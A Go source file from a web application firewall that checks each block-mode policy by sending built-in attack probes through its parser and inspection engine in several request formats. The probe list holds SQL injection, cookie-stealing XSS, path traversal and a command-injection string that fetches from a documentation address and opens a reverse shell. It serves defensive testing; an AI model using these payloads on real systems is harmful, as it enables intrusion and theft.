package proxy

import (
	"errors"
	"fmt"
	"maps"
	"net/netip"
	"slices"
	"strconv"
	"strings"

	"github.com/wafer-waf/wafer/inspect"
	"github.com/wafer-waf/wafer/listen/http1"
	"github.com/wafer-waf/wafer/snapshot"
	"github.com/wafer-waf/wafer/waf"
	"github.com/wafer-waf/wafer/wire"
)

// probes are attacks that every policy in block mode has to stop before it is put in
// force, each by rules of its own class. They match several rules each, so that a higher
// threshold does not fail them.
var probes = []struct{ class, attack string }{
	{"attack-sqli", "1' UNION ALL SELECT username,password FROM users WHERE 1=1 OR sleep(5)-- -"},
	{"attack-xss", "<script>alert(document.cookie)</script><img src=x onerror=eval(name)>"},
	{"attack-lfi", "../../../../../etc/passwd"},
	{"attack-rce", ";cat /etc/passwd|wget http://192.0.2.1/x;bash -i >& /dev/tcp/192.0.2.1/1"},
}

// probeName is the argument that attacks stand in. No application has one of that name, so that no
// exclusion is about it.
const probeName = "waferprobe"

// carrier is a way in which an attack comes.
type carrier struct {
	name, media string // media is the type of the body; empty: the attack stands in the query
	write       func(attack string) string
}

// carriers are a query, and each kind of body that is read.
var carriers = []carrier{
	{"GET", "", nil},
	{"form", "application/x-www-form-urlencoded", func(s string) string { return probeName + "=" + escapeQuery(s) }},
	{"multipart", "multipart/form-data; boundary=wafer", func(s string) string {
		return "--wafer\r\nContent-Disposition: form-data; name=\"" + probeName + "\"\r\n\r\n" + s + "\r\n--wafer--\r\n"
	}},
	{"JSON", "application/json", func(s string) string { return `{"` + probeName + `":` + strconv.Quote(s) + `}` }},
	{"XML", "text/xml", func(s string) string {
		return "<r>" + strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s) + "</r>"
	}},
}

// raw is the head and the body of a request that carries an attack, as a client would send them.
func (c *carrier) raw(attack string) (head, body string) {
	const fields = " HTTP/1.1\r\nHost: probe.invalid\r\nUser-Agent: wafer-probe\r\nAccept: */*\r\n"
	if c.write == nil {
		return "GET /?" + probeName + "=" + escapeQuery(attack) + fields + "\r\n", ""
	}
	body = c.write(attack)
	return "POST /" + fields + "Content-Type: " + c.media + "\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n", body
}

// escapeQuery escapes all that is no letter or digit, as scripts do.
func escapeQuery(s string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; c|0x20 >= 'a' && c|0x20 <= 'z' || c >= '0' && c <= '9' || c == '.' || c == '-' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// probe sends the attacks, as the bytes a client would send, through what serves requests:
// the listener's parser, the view, the inspection with its screen. It returns what stopped each.
func probe(by *inspect.Inspector, p *inspect.Policy) ([]snapshot.Stopped, error) {
	var errs []error
	proof := []snapshot.Stopped{}
	for _, one := range probes {
		failed := map[string][]string{} // names of carriers by what went wrong
		for i := range carriers {
			c := &carriers[i]
			stopped, err := probeOne(by, p, one.class, c, one.attack)
			switch {
			case errors.Is(err, errUnread): // the policy says so, and so does the coverage of each request
			case err != nil:
				failed[err.Error()] = append(failed[err.Error()], c.name)
			default:
				proof = append(proof, stopped)
			}
		}
		for _, what := range slices.Sorted(maps.Keys(failed)) {
			by := ""
			if len(failed[what]) < len(carriers) {
				by = strings.Join(failed[what], ", ") + ": "
			}
			errs = append(errs, fmt.Errorf("built-in probe %s: %s%s", one.class, by, what))
		}
	}
	if len(errs) > 0 {
		errs = append(errs, errors.New("a policy that lets these pass protects nothing there: narrow its exclusions by target or path, lower its threshold, or write mode: detect"))
	}
	return proof, errors.Join(errs...)
}

// errUnread says that a policy does not look at bodies.
var errUnread = errors.New("request bodies are not inspected")

// probeOne proves that rules of a class stop an attack. Own rules that deny the request for another
// reason, such as its address, its method or a missing field, say nothing of what rules do with
// requests that they let through, so the attack comes again without them; and so do rules of CRS that
// stop the request by its head, before its arguments are looked at.
func probeOne(by *inspect.Inspector, p *inspect.Policy, class string, c *carrier, attack string) (snapshot.Stopped, error) {
	s := snapshot.Stopped{Attack: class, By: c.name}
	for {
		o, report, err := c.send(by, p, attack, s.Before)
		if err != nil {
			return s, err
		}
		f := &report.Findings
		for _, m := range f.Matches {
			if slices.Contains(m.Tags, class) {
				s.Rules = append(s.Rules, m.RuleID)
			}
		}
		s.Rule = f.Verdict.RuleID
		switch before := deciders(p.Engine, f); {
		case o.Stops() && len(s.Rules) > 0 && (!p.Engine.Owns(s.Rule) || slices.Contains(s.Rules, s.Rule)):
			return s, nil
		case o.Stops() && len(before) > 0 && !slices.Contains(s.Before, before[0]):
			s.Before, s.Rules = append(s.Before, before...), nil
		case len(s.Rules) == 0 && o.Stops():
			return s, fmt.Errorf("no rule tagged %s matched, since rule %d stopped it before", class, s.Rule)
		case len(s.Rules) == 0:
			return s, fmt.Errorf("no rule tagged %s matched", class)
		default:
			return s, fmt.Errorf("not blocked (score %d)", f.InboundScore)
		}
	}
}

// deciders are rules that stopped a request before the rules of CRS had looked at all of it.
func deciders(engine *waf.Engine, f *waf.Findings) []int {
	if engine.Owns(f.Verdict.RuleID) {
		return []int{f.Verdict.RuleID}
	}
	var scored []int
	for _, m := range f.Matches {
		if f.Verdict.Phase == 1 && m.Score > 0 {
			scored = append(scored, m.RuleID)
		}
	}
	return scored
}

// attacker is where the attacks come from (RFC 5737).
var attacker = netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, 1}), 1)

// send takes the attack through the policy, without some of its rules.
func (c *carrier) send(by *inspect.Inspector, p *inspect.Policy, attack string, without []int) (inspect.Outcome, *inspect.Report, error) {
	head, body := c.raw(attack)
	read, err := http1.Read([]byte(head), attacker, wire.Options{})
	if err != nil {
		return inspect.Outcome{}, nil, fmt.Errorf("parse: %w", err)
	}
	v := seen(read)
	v.identify(nil, "")
	request := v.request()
	var i inspect.Inspection
	// Whether the policy stops an attack does not depend on how busy the machine is.
	i.Begin(by, p, inspect.Terms{ID: "probe", Unbounded: true, Apart: true, Without: without})
	defer i.End()
	o := i.RequestHead(&request)
	if !o.Stops() {
		if _, wants := i.WantsRequestBody(); !wants && body != "" {
			return o, nil, errUnread
		}
		o = i.RequestBody(inspect.Body{Bytes: []byte(body), Ended: true})
	}
	report := i.End()
	return o, report, errors.Join(o.Err, report.Err)
}
